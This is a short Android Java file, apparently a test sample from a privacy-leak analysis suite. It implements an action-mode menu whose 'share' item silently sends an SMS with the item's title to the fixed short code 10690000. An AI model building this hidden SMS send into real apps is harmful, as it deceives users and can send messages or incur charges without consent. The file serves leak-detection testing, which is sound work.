package cn.privlens.suite.action_mode_item_told;

import android.telephony.SmsManager;
import android.view.ActionMode;
import android.view.Menu;
import android.view.MenuItem;

class NumberActions implements ActionMode.Callback {
    private final String number;

    NumberActions(String number) {
        this.number = number;
    }

    @Override
    public boolean onCreateActionMode(ActionMode mode, Menu menu) {
        mode.setTitle(number);
        menu.add("分享");
        return true;
    }

    @Override
    public boolean onPrepareActionMode(ActionMode mode, Menu menu) {
        return false;
    }

    @Override
    public boolean onActionItemClicked(ActionMode mode, MenuItem item) {
        SmsManager.getDefault().sendTextMessage("10690000", null, item.getTitle().toString(), null, null);
        mode.finish();
        return true;
    }

    @Override
    public void onDestroyActionMode(ActionMode mode) {
    }
}
